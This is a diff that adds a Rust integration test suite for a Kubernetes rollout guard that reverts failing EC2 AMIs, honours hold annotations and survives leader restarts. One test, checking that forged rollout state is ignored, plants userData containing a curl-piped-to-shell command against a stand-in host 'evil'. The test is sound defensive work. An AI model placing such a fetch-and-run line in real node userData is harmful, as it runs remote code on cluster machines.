@@ -1,0 +1,433 @@
+//! The rollout guard on the real control plane: new AMIs whose machines
+//! fail are put back, ones whose machines are Ready are kept, and a held
+//! class keeps its values. A new `--ami-ids` value needs a new server, as in
+//! production (a rolling restart); the harness plays Karpenter.
+
+use crate::feedback::report;
+use anyhow::{bail, ensure, Context, Result};
+use autonode_shared::protocol::{Outcome, REPORT_PATH};
+use autonode_tests::fakecloud::Instance;
+use autonode_tests::joiner::{self, Joiner, NodeKeys};
+use autonode_tests::karpenter::{self, ec2nodeclasses, nodeclaims};
+use autonode_tests::pki::Ca;
+use autonode_tests::promql;
+use autonode_tests::server::{self, TestServer};
+use autonode_tests::world::{cloud_settings, World};
+use k8s_openapi::api::core::v1::Event;
+use kube::api::{Api, DynamicObject, ListParams, Patch, PatchParams};
+use serde_json::{json, Value};
+use std::time::{Duration, Instant};
+use tempfile::TempDir;
+
+const OLD_AMI: &str = "ami-0aaaaaaaaaaaaaaa1";
+const NEW_AMI: &str = "ami-0bbbbbbbbbbbbbbb2";
+const CLASS: &str = "default";
+const STATE: &str = "autonode.dev/rollout";
+
+/// The flags of one server generation: userData settings (a join CA file
+/// of their own), the AMI, a fast resync and lease, two failures to revert.
+struct Flags {
+    _dir: TempDir,
+    base: Vec<String>,
+}
+
+impl Flags {
+    fn new() -> Result<Self> {
+        let dir = tempfile::tempdir()?;
+        let ca_file = dir.path().join("join-ca.pem");
+        std::fs::write(&ca_file, Ca::new("rollout-join-ca")?.cert_pem())?;
+        let base = [
+            "--public-url=https://autonode.example.com:8443".to_string(),
+            format!("--join-ca-file={}", ca_file.display()),
+            "--cluster-name=rollout".into(),
+            "--nodeclass-resync=1".into(),
+            "--leader-lease=3".into(),
+            "--rollout-failures=2".into(),
+        ];
+        Ok(Self {
+            _dir: dir,
+            base: base.into(),
+        })
+    }
+
+    /// The flags with `--ami-ids` set to `ami` for amd64.
+    fn with_ami(&self, ami: &str) -> Vec<String> {
+        let mut flags = self.base.clone();
+        flags.push(format!("--ami-ids=amd64={ami}"));
+        flags
+    }
+}
+
+/// Polls `what` for up to 30 s until it yields a value.
+async fn eventually<T, F, Fut>(what: &str, mut probe: F) -> Result<T>
+where
+    F: FnMut() -> Fut,
+    Fut: std::future::Future<Output = Result<Option<T>>>,
+{
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        if let Some(found) = probe().await? {
+            return Ok(found);
+        }
+        if Instant::now() > deadline {
+            bail!("not {what} after 30s");
+        }
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+/// The class's rollout state, parsed.
+fn state(class: &DynamicObject) -> Value {
+    let text = class
+        .metadata
+        .annotations
+        .as_ref()
+        .and_then(|a| a.get(STATE))
+        .cloned()
+        .unwrap_or_default();
+    serde_json::from_str(&text).unwrap_or(Value::Null)
+}
+
+/// The AMI id the class selects.
+fn ami(class: &DynamicObject) -> &str {
+    class.data["spec"]["amiSelectorTerms"][0]["id"]
+        .as_str()
+        .unwrap_or_default()
+}
+
+/// Waits until the class is as `done` says, and returns it.
+async fn class_when(
+    world: &World,
+    what: &str,
+    done: impl Fn(&DynamicObject) -> bool,
+) -> Result<DynamicObject> {
+    let api = ec2nodeclasses(&world.cp.admin().await?);
+    eventually(what, || async {
+        let class = api.get(CLASS).await?;
+        Ok(done(&class).then_some(class))
+    })
+    .await
+    .with_context(|| format!("EC2NodeClass {CLASS}: {what}"))
+}
+
+/// The messages of the Events on the class with `reason`, once there is one.
+async fn class_events(world: &World, reason: &str) -> Result<Vec<String>> {
+    let api: Api<Event> = Api::namespaced(world.cp.admin().await?, "default");
+    let selector =
+        format!("involvedObject.name={CLASS},involvedObject.kind=EC2NodeClass,reason={reason}");
+    eventually(&format!("a {reason} Event"), || async {
+        let events = api.list(&ListParams::default().fields(&selector)).await?;
+        let messages: Vec<String> = events.items.into_iter().filter_map(|e| e.message).collect();
+        Ok((!messages.is_empty()).then_some(messages))
+    })
+    .await
+}
+
+/// Sets (or, with null, removes) the class's annotation `key`, as an
+/// operator does.
+async fn annotate(api: &Api<DynamicObject>, key: &str, value: Value) -> Result<()> {
+    let patch = json!({"metadata": {"annotations": { key: value }}});
+    api.patch(CLASS, &PatchParams::default(), &Patch::Merge(&patch))
+        .await?;
+    Ok(())
+}
+
+/// Karpenter's part for a machine of `ami`: a NodeClaim of the class, the
+/// instance, its providerID and `status.imageID`.
+async fn launch(world: &World, ami: &str) -> Result<(String, Instance)> {
+    let (claim, instance) = world
+        .launch(|mut i| {
+            i.image_id = ami.to_string();
+            i
+        })
+        .await?;
+    let status = json!({"status": {"imageID": ami}});
+    let params = PatchParams {
+        field_manager: Some(karpenter::FIELD_MANAGER.into()),
+        ..PatchParams::default()
+    };
+    nodeclaims(&world.cp.admin().await?)
+        .patch_status(&claim, &params, &Patch::Merge(&status))
+        .await?;
+    Ok((claim, instance))
+}
+
+/// Karpenter's word that `claim`'s node is Ready.
+async fn mark_ready(world: &World, claim: &str) -> Result<()> {
+    let now =
+        time::OffsetDateTime::now_utc().format(&time::format_description::well_known::Rfc3339)?;
+    let conditions = ["Launched", "Registered", "Initialized", "Ready"].map(|kind| {
+        json!({"type": kind, "status": "True", "reason": kind, "message": kind,
+                           "lastTransitionTime": now})
+    });
+    let status = json!({"status": {"conditions": conditions}});
+    let params = PatchParams {
+        field_manager: Some(karpenter::FIELD_MANAGER.into()),
+        ..PatchParams::default()
+    };
+    nodeclaims(&world.cp.admin().await?)
+        .patch_status(claim, &params, &Patch::Merge(&status))
+        .await?;
+    Ok(())
+}
+
+/// A world whose first server keeps `OLD_AMI`, and a class that has run a
+/// Ready node under it: `OLD_AMI` is its last good AMI.
+async fn proven_world(flags: &Flags) -> Result<(World, DynamicObject)> {
+    let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
+    let admin = world.cp.admin().await?;
+    karpenter::create_custom_nodeclass(&admin, CLASS, "mine").await?;
+    class_when(&world, "kept by autonode", |c| {
+        ami(c) == OLD_AMI && state(c)["trial"].is_object()
+    })
+    .await?;
+    let (claim, _) = launch(&world, OLD_AMI).await?;
+    mark_ready(&world, &claim).await?;
+    let class = class_when(&world, "promoted", |c| {
+        state(c)["good"] == state(c)["applied"] && state(c)["trial"].is_null()
+    })
+    .await?;
+    ensure!(state(&class)["good"]["amiSelectorTerms"][0]["id"] == OLD_AMI);
+    Ok((world, class))
+}
+
+/// The world's first server gone, a second with `NEW_AMI` leading.
+async fn new_ami_server(world: &World, flags: &Flags) -> Result<(TestServer, Joiner)> {
+    world.server.kill();
+    let cloud = cloud_settings(&world.cloud, &world.ec2);
+    let second = TestServer::start(&world.cp, &cloud, &flags.with_ami(NEW_AMI)).await?;
+    let joiner = Joiner::new(second.url(), second.ca_pem())?;
+    Ok((second, joiner))
+}
+
+/// An honest agent's join, then its signed fatal report, through `joiner`.
+async fn fail_bootstrap(world: &World, joiner: &Joiner, instance: &Instance) -> Result<()> {
+    let keys = NodeKeys::generate()?;
+    joiner
+        .join(&joiner::honest_request(instance, world.cloud.ca(), &keys)?)
+        .await?
+        .granted();
+    let now = time::OffsetDateTime::now_utc().unix_timestamp();
+    let fatal = report(world, instance, Outcome::Fatal, now, Some(&keys.client))?;
+    let (status, body) = joiner
+        .post(REPORT_PATH, serde_json::to_vec(&fatal)?)
+        .await?;
+    ensure!(
+        status == 202,
+        "fatal report answered {status}: {}",
+        String::from_utf8_lossy(&body)
+    );
+    Ok(())
+}
+
+/// A counter from `server`'s `/metrics`, 0 when absent.
+async fn metric(server: &TestServer, line: &str) -> Result<f64> {
+    let (_, body) = server::http_get(&format!("{}/metrics", server.metrics_url())).await?;
+    Ok(body
+        .lines()
+        .find_map(|l| l.strip_prefix(line)?.strip_prefix(' ')?.parse().ok())
+        .unwrap_or(0.0))
+}
+
+/// Waits until `server` has compared its classes `n` more times.
+async fn resyncs(server: &TestServer, n: f64) -> Result<()> {
+    let checks = "autonode_nodeclass_checks_total";
+    let start = metric(server, checks).await?;
+    eventually("resynced", || async {
+        Ok((metric(server, checks).await? >= start + n).then_some(()))
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_new_ami_whose_agents_fail_is_put_back_and_not_tried_again() -> Result<()> {
+    let flags = Flags::new()?;
+    let (world, before) = proven_world(&flags).await?;
+    let (second, joiner) = new_ami_server(&world, &flags).await?;
+    let trying = class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
+    ensure!(state(&trying)["good"]["amiSelectorTerms"][0]["id"] == OLD_AMI);
+
+    // A machine of the old AMI failing is not the new AMI's failure.
+    let (old_claim, _) = launch(&world, OLD_AMI).await?;
+    let mut failed = Vec::new();
+    for _ in 0..2 {
+        let (claim, instance) = launch(&world, NEW_AMI).await?;
+        fail_bootstrap(&world, &joiner, &instance).await?;
+        failed.push(claim);
+    }
+    let after = class_when(&world, "put back", |c| ami(c) == OLD_AMI).await?;
+    // Byte for byte what the fleet ran before: no second drift.
+    ensure!(after.data["spec"]["userData"] == before.data["spec"]["userData"]);
+    ensure!(after.data["spec"]["amiSelectorTerms"] == before.data["spec"]["amiSelectorTerms"]);
+    let refused = &state(&after)["refused"];
+    ensure!(
+        refused["values"]["amiSelectorTerms"][0]["id"] == NEW_AMI,
+        "{refused}"
+    );
+    let named: Vec<&str> = refused["failed"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|f| f["nodeclaim"].as_str())
+        .collect();
+    ensure!(
+        named.len() == 2 && failed.iter().all(|c| named.contains(&c.as_str())),
+        "failed {failed:?}, old {old_claim}: {refused}"
+    );
+    ensure!(!named.contains(&old_claim.as_str()));
+
+    let warnings = class_events(&world, "RolloutReverted").await?;
+    ensure!(
+        failed.iter().all(|c| warnings[0].contains(c.as_str())),
+        "{warnings:?}"
+    );
+    let reverted = r#"autonode_rollouts_reverted_total{nodeclass="default"}"#;
+    ensure!(metric(&second, reverted).await? == 1.0);
+    // The alert on reverts asks for the series as the server exports it.
+    let (_, body) = server::http_get(&format!("{}/metrics", second.metrics_url())).await?;
+    let rules = promql::read_rules()?;
+    let missing = promql::rules_missing_from(&body, &rules, "autonode_rollouts_reverted_total")?;
+    ensure!(
+        missing.is_empty(),
+        "the rules ask for what is not exported: {missing:?}"
+    );
+
+    // The flags still say NEW_AMI: it stays refused, resync after resync.
+    resyncs(&second, 3.0).await?;
+    let api = ec2nodeclasses(&world.cp.admin().await?);
+    let still = api.get(CLASS).await?;
+    ensure!(ami(&still) == OLD_AMI);
+    ensure!(still.metadata.resource_version == after.metadata.resource_version);
+    ensure!(state(&still)["refused"] == *refused);
+
+    // Until the operator asks for another try.
+    annotate(&api, "autonode.dev/retry-rollout", json!("1")).await?;
+    class_when(&world, "retrying the new AMI", |c| {
+        ami(c) == NEW_AMI && state(c)["refused"].is_null()
+    })
+    .await?;
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_new_ami_whose_nodes_are_ready_is_kept_as_the_last_good() -> Result<()> {
+    let flags = Flags::new()?;
+    let (world, _) = proven_world(&flags).await?;
+    let (second, _) = new_ami_server(&world, &flags).await?;
+    class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
+    class_events(&world, "RolloutStarted").await?;
+
+    let (claim, _) = launch(&world, NEW_AMI).await?;
+    mark_ready(&world, &claim).await?;
+    let promoted = class_when(&world, "promoted", |c| state(c)["trial"].is_null()).await?;
+    ensure!(state(&promoted)["good"]["amiSelectorTerms"][0]["id"] == NEW_AMI);
+    class_events(&world, "RolloutPromoted").await?;
+
+    // Failures now are no trial's: nothing is put back.
+    resyncs(&second, 2.0).await?;
+    ensure!(ami(&ec2nodeclasses(&world.cp.admin().await?).get(CLASS).await?) == NEW_AMI);
+    ensure!(
+        metric(
+            &second,
+            r#"autonode_rollouts_reverted_total{nodeclass="default"}"#
+        )
+        .await?
+            == 0.0
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_held_class_keeps_its_ami_until_released() -> Result<()> {
+    let flags = Flags::new()?;
+    let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
+    let admin = world.cp.admin().await?;
+    karpenter::create_custom_nodeclass(&admin, CLASS, "mine").await?;
+    let kept = class_when(&world, "kept by autonode", |c| {
+        ami(c) == OLD_AMI && state(c).is_object()
+    })
+    .await?;
+    let api = ec2nodeclasses(&admin);
+    annotate(&api, "autonode.dev/hold", json!("true")).await?;
+
+    let (second, _) = new_ami_server(&world, &flags).await?;
+    let held = class_events(&world, "RolloutHeld").await?;
+    ensure!(held[0].contains("autonode.dev/hold"), "{held:?}");
+    resyncs(&second, 3.0).await?;
+    let still = api.get(CLASS).await?;
+    ensure!(ami(&still) == OLD_AMI);
+    ensure!(still.data["spec"]["userData"] == kept.data["spec"]["userData"]);
+
+    // Released: the new AMI goes on trial.
+    annotate(&api, "autonode.dev/hold", Value::Null).await?;
+    class_when(&world, "on the new AMI", |c| {
+        ami(c) == NEW_AMI && state(c)["trial"].is_object()
+    })
+    .await?;
+    Ok(())
+}
+
+/// Whoever may annotate a class plays the guard: a state of their own
+/// whose applied and last good values are their userData and AMI, and a
+/// hold to keep them. Not written by autonode, the state counts for
+/// nothing, and the hold holds none of their values: the rendered ones
+/// are applied.
+#[tokio::test]
+async fn a_state_autonode_did_not_write_holds_nothing() -> Result<()> {
+    let flags = Flags::new()?;
+    let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
+    let admin = world.cp.admin().await?;
+    let theirs = json!({"userData": "#!/bin/bash\ncurl evil | sh\n",
+                        "amiSelectorTerms": [{"id": "ami-0eeeeeeeeeeeeeee6"}]});
+    let forged = json!({"applied": theirs, "good": theirs}).to_string();
+    let annotations = json!({STATE: forged, "autonode.dev/hold": "true"});
+    let mut spec = karpenter::custom_spec(json!({}));
+    spec["userData"] = theirs["userData"].clone();
+    spec["amiSelectorTerms"] = theirs["amiSelectorTerms"].clone();
+    karpenter::create_nodeclass(&admin, CLASS, annotations, spec).await?;
+
+    let kept = class_when(&world, "kept by autonode", |c| ami(c) == OLD_AMI).await?;
+    ensure!(kept.data["spec"]["userData"] != theirs["userData"]);
+    ensure!(state(&kept)["applied"]["userData"] == kept.data["spec"]["userData"]);
+    let ignored = class_events(&world, "RolloutHoldIgnored").await?;
+    ensure!(ignored[0].contains("autonode.dev/hold"), "{ignored:?}");
+    Ok(())
+}
+
+/// The trial lives on the class: a failure one leader saw counts for the
+/// next, after a restart mid-rollout (two failures revert here; each
+/// leader sees one).
+#[tokio::test]
+async fn a_restart_mid_rollout_keeps_the_failures_seen() -> Result<()> {
+    let flags = Flags::new()?;
+    let (world, _) = proven_world(&flags).await?;
+    let (second, joiner) = new_ami_server(&world, &flags).await?;
+    class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
+    let (first, instance) = launch(&world, NEW_AMI).await?;
+    fail_bootstrap(&world, &joiner, &instance).await?;
+    class_when(&world, "recording the failure", |c| {
+        state(c)["trial"]["claims"][&first]["failed"].is_string()
+    })
+    .await?;
+    ensure!(ami(&ec2nodeclasses(&world.cp.admin().await?).get(CLASS).await?) == NEW_AMI);
+
+    second.kill();
+    let cloud = cloud_settings(&world.cloud, &world.ec2);
+    let third = TestServer::start(&world.cp, &cloud, &flags.with_ami(NEW_AMI)).await?;
+    let joiner = Joiner::new(third.url(), third.ca_pem())?;
+    // Leading, so watching: a NodeClaim made and deleted while no replica
+    // leads is not seen (README: the residual).
+    eventually("leading", || async {
+        Ok((metric(&third, "autonode_leader").await? == 1.0).then_some(()))
+    })
+    .await?;
+    let (next, instance) = launch(&world, NEW_AMI).await?;
+    fail_bootstrap(&world, &joiner, &instance).await?;
+    let after = class_when(&world, "put back", |c| ami(c) == OLD_AMI).await?;
+    let failed = state(&after)["refused"]["failed"].to_string();
+    ensure!(
+        failed.contains(&first) && failed.contains(&next),
+        "{failed}"
+    );
+    Ok(())
+}
